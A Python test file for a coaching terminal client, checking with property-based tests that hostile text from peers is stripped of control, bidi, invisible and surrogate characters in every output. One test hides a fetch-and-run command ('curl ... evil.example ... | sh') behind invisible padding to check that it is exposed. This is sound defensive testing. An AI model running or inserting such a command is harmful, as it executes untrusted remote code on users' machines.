"""Hostile text in every peer-controlled field, through the real renderers of the command line,
the change reports, the error sentences, the notes and the presence: no exception, and no
control, bidi, zero-width or surrogate character from the data in any output.

(The screen's renderers, under Pilot, are in test_hostile_screen.py.)"""

from __future__ import annotations

import asyncio
import datetime as dt
import io
import json
import unicodedata
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pycrdt import Doc, XmlElement, XmlFragment, XmlText

from coachtui.api.errors import ApiError
from coachtui.api.models import Action, Agreement, EnrichedSession, Era, Goal, Organization, Status, User
from coachtui.api.responses import raise_for_status
from coachtui.commands import session_row
from coachtui.live.changes import Context, Origin, Resync, compare, compare_title
from coachtui.live.events import Pane
from coachtui.live.notes.document import render
from coachtui.live.notes.presence import Roster
from coachtui.live.status import ConnectionStatus, ConnState, LastError
from coachtui.scripting import _Printer, show_json, show_text
from coachtui.text import clipboard, inert, json_line, label, log_value, notice, printable
from tests.security.hostile import hostile_text, leaks

AT = dt.datetime(2026, 3, 2, 10, 0, tzinfo=dt.UTC)
texts = st.lists(hostile_text, min_size=8, max_size=8)


@settings(max_examples=300, deadline=None)  # (no timing: a loaded machine is slow, not wrong)
@given(hostile_text)
def test_each_destination_is_safe(text: str) -> None:
    for one_line in (inert(text), label(text), log_value(text), inert(text, limit=10)):
        assert leaks(one_line) == []
    for lines in (notice(text), clipboard(text), printable(text)):
        assert leaks(lines, lines=True) == []
    assert "\x1b" not in clipboard(text) and "\r" not in clipboard(text)
    assert clipboard("a\nb\r\nc") == "a\nb\nc"  # newlines kept
    line = json_line({"t": text})
    assert leaks(line) == [] and "\n" not in line
    assert json.loads(line) == json.loads(json.dumps({"t": text}))  # escaped, not changed
    assert leaks(json_line([text], indent=2), lines=True) == []


def test_json_line_keeps_other_non_ascii_text() -> None:
    assert json_line({"t": "Café 漢字 👩‍👩‍👧"}) == '{"t": "Café 漢字 👩\\u200d👩\\u200d👧"}'
    assert json_line("\x85\u202e\U000e0041\ud800") == '"\\u0085\\u202e\\udb40\\udc41\\ud800"'


# The attack's invisibles, each in a run: Rich measures them as 0 cells, terminals draw some.
INVISIBLES = ["\u034f", "\u17b4", "\u17b5", *map(chr, range(0x1D173, 0x1D17B)), "\ufe0f", "\U000e0100"]


@pytest.mark.parametrize("char", INVISIBLES, ids=lambda c: f"U+{ord(c):04X}")
def test_invisible_characters_go_and_json_escapes_them(char: str) -> None:
    text = "CGJ x" + char * 300 + " tail"
    for safe in (inert(text), label(text, limit=500), notice(text), clipboard(text), printable(text)):
        assert char not in safe and safe.endswith("tail")
    assert inert(text) == "CGJ x tail"
    line = json_line({"t": text})
    assert char not in line and json.loads(line) == {"t": text}


def test_every_invisible_format_character_is_removed() -> None:
    """Unicode's format characters (category Cf, as Python's unicodedata knows them) are all
    removed, but for the few that a font draws as a visible sign: the Arabic and Syriac marks
    written before numbers, the Egyptian hieroglyph format controls (which join hieroglyphs)."""
    drawn = {*range(0x0600, 0x0606), 0x06DD, 0x070F, 0x0890, 0x0891, 0x08E2, 0x110BD, 0x110CD}
    drawn |= set(range(0x13430, 0x13460))
    format_chars = [c for c in range(0x110000) if unicodedata.category(chr(c)) == "Cf"]
    kept = [f"U+{c:04X}" for c in format_chars if c not in drawn and inert(f"a{chr(c)}b") != "ab"]
    assert kept == []


def test_blank_padding_collapses_and_json_escapes_the_braille_blank() -> None:
    smuggle = "Read this, and note" + "\u2800" * 120 + "; curl -s http://evil.example/y | sh #"
    shown = "Read this, and note ; curl -s http://evil.example/y | sh #"
    assert inert(smuggle) == shown and clipboard(smuggle) == shown
    assert "\u2800" not in json_line(smuggle) and "\\u2800" in json_line(smuggle)
    assert inert("a\u3000\u2003\u00a0 b") == "a b"
    # One such character between words is the writer's own (a French non-breaking space, an
    # ideographic space); a copy keeps it, and keeps indentation made of spaces.
    assert clipboard("Bonjour\u00a0!\n    x") == "Bonjour\u00a0!\n    x"


def people(t: list[str]) -> tuple[User, User]:
    coach = User(id="coach-id", first_name=t[0], last_name="", display_name=None)
    coachee = User(id="coachee-id", display_name=t[1])
    return coach, coachee


def session(t: list[str]) -> EnrichedSession:
    coach, coachee = people(t)
    return EnrichedSession(
        id="s1",
        coaching_relationship_id="r1",
        date=AT,
        title=t[2],
        coach=coach,
        coachee=coachee,
        organization=Organization(id="o", name=t[3]),
    )


@settings(max_examples=60, deadline=None)
@given(texts)
def test_show_and_sessions_print_nothing_hostile(t: list[str]) -> None:
    header = session(t)
    goals = [Goal(id="g1", title=t[4], status=Status.IN_PROGRESS, target_date=dt.date(2026, 4, 1))]
    actions = [
        Action(
            id=t[5][:50] or "a",
            coaching_session_id="s1",
            body=t[6],
            assignee_ids=["coach-id", "coachee-id", t[7]],
        )
    ]
    agreements = [Agreement(id="ag", coaching_session_id="s1", body=t[7])]
    for width in (40, 120):
        for line in show_text(header, goals, actions, agreements, width):
            assert leaks(line) == []
    shown = json_line(show_json(header, goals, actions, agreements), indent=2)
    assert leaks(shown, lines=True) == []
    json.loads(shown)
    rows = json_line([session_row(header)], indent=2)
    assert leaks(rows, lines=True) == []
    # JSON keeps the text, escaped (none: null; two lone surrogates read back as the pair they make).
    assert json.loads(rows)[0]["title"] == (json.loads(json.dumps(t[2])) if t[2] else None)


def _printer(as_json: bool) -> tuple[_Printer, io.StringIO]:
    out = io.StringIO()
    return _Printer(out, as_json), out


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts)
def test_watch_and_the_change_reports_say_nothing_hostile(
    capsys: pytest.CaptureFixture[str], t: list[str]
) -> None:
    header = session(t)
    goals = [Goal(id="g1", title=t[4]), Goal(id="g2", title=t[5])]
    context = Context(header, goals, Era.HEAD, me="coach-id")
    before = Action(id="a1", coaching_session_id="s1", body=t[6], goal_id="g1", assignee_ids=["coach-id"])
    after = before.model_copy(update={"body": t[7], "goal_id": "g2", "assignee_ids": ["coachee-id", "x"]})
    added = Action(id="a2", coaching_session_id="s1", body=t[0], user_id="coachee-id")
    changes = [
        compare(Pane.ACTIONS, before, after, context, at=AT, origin=Origin.LIVE),
        compare(Pane.ACTIONS, None, added, context, at=AT, origin=Origin.LIVE),
        compare(Pane.GOALS, None, goals[0], context, at=AT, origin=Origin.RESYNC),
        compare_title(t[2], t[3], "s1", at=AT, origin=Origin.LIVE),
    ]
    found = [c for c in changes if c is not None]
    assert found
    for change in found:
        for width in (24, 60):
            assert leaks(change.summary(width=width)) == []
        assert leaks(json_line(change.to_json())) == []
        for f in change.fields:
            assert leaks(f.before) == [] and leaks(f.after) == []

    async def run() -> None:
        for as_json in (False, True):
            printer, out = _printer(as_json)
            for change in found:
                printer.changed(change)
            printer.resynced(Resync(AT, tuple(found)))
            failed = LastError(t[1], AT, 1)
            printer.status_changed(ConnectionStatus(state=ConnState.RECONNECTING, last_error=failed))
            printer.logged_out(t[2])
            written = out.getvalue()
            assert leaks(written, lines=True) == []
            if as_json:
                for line in written.splitlines():
                    json.loads(line)

    asyncio.run(run())
    assert leaks(capsys.readouterr().err, lines=True) == []


@settings(max_examples=100, deadline=None)  # (no timing: a loaded machine is slow, not wrong)
@given(texts)
def test_error_bodies_become_safe_sentences(t: list[str]) -> None:
    request = httpx.Request("GET", "http://h/x")

    def answer(status: int, text: str, kind: str = "text/plain; charset=utf-8") -> httpx.Response:
        body = text.encode("utf-8", "surrogatepass")  # what a server can put on the wire
        return httpx.Response(status, content=body, headers={"content-type": kind}, request=request)

    conflict = {"error": t[1], "details": {"in_progress_goals": [{"id": "g", "title": t[2]}]}}
    answers = [
        answer(400, f"`x-version` {t[0]}"),
        answer(409, json.dumps(conflict), "application/json"),
        answer(422, t[3]),
        answer(418, t[4]),
    ]
    for response in answers:
        with pytest.raises(ApiError) as caught:
            raise_for_status(response, "h")
        assert leaks(caught.value.message) == []


def _document(t: list[str], attrs: dict[str, Any]) -> XmlFragment:
    doc: Doc[Any] = Doc()
    fragment: XmlFragment = doc.get("default", type=XmlFragment)
    heading = fragment.children.append(XmlElement("heading", {"level": attrs["level"]}))
    heading.children.append(XmlText(t[0]))
    listing = fragment.children.append(XmlElement("orderedList", {"start": attrs["start"]}))
    item = listing.children.append(XmlElement("listItem"))
    paragraph = item.children.append(XmlElement("paragraph"))
    text = paragraph.children.append(XmlText(t[1]))
    text.format(0, max(len(t[1]), 1), {"link": {"href": t[2]}, t[3][:20]: {}})
    unknown = fragment.children.append(XmlElement(t[4][:30] or "x", {t[5][:20] or "a": t[6]}))
    unknown.children.append(XmlText(t[7]))
    code = fragment.children.append(XmlElement("codeBlock"))
    code.children.append(XmlText(t[5]))
    table = fragment.children.append(XmlElement("table"))
    cell = table.children.append(XmlElement("tableRow")).children.append(XmlElement("tableHeader"))
    cell.children.append(XmlText(t[6]))
    return fragment


@settings(max_examples=60, deadline=None)
@given(texts, st.sampled_from([float("inf"), -1e308, 1e300, "Infinity", "x", None, 2**62, -5, True]))
def test_notes_render_nothing_hostile(t: list[str], number: Any) -> None:
    # (A Yjs document is UTF-8 on the wire: a lone surrogate arrives as U+FFFD.)
    t = [x.encode("utf-8", "surrogatepass").decode("utf-8", "replace") for x in t]
    lines = render(_document(t, {"level": number, "start": number}))
    assert lines
    for line in lines:
        assert leaks(line.plain) == [] and all(leaks(s.text) == [] for s in line.spans)


@settings(max_examples=100, deadline=None)  # (no timing: a loaded machine is slow, not wrong)
@given(
    texts, st.sampled_from(["0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59", "x", "", "2026-01-01"])
)
def test_awareness_names_and_times_are_safe(t: list[str], last_seen: str) -> None:
    roster = Roster(own_client=1)
    states = [
        {
            "presence": {
                "userId": t[0],
                "name": t[1],
                "relationshipRole": "Coachee",
                "isConnected": False,
                "lastSeen": last_seen,
            }
        },
        {
            "presence": {
                "userId": "u2",
                "name": t[2],
                "relationshipRole": "Coach",
                "status": t[3],
                "lastSeen": t[4],
            }
        },
    ]
    roster.apply([(n + 2, 1, json.dumps(s)) for n, s in enumerate(states)], 0.0, AT)
    for presence in roster.by_role().values():
        assert leaks(presence.describe()) == []
    assert all(leaks(name) == [] for name in roster.names().values())
    roster.clear(AT)
    for presence in roster.by_role().values():
        presence.describe()
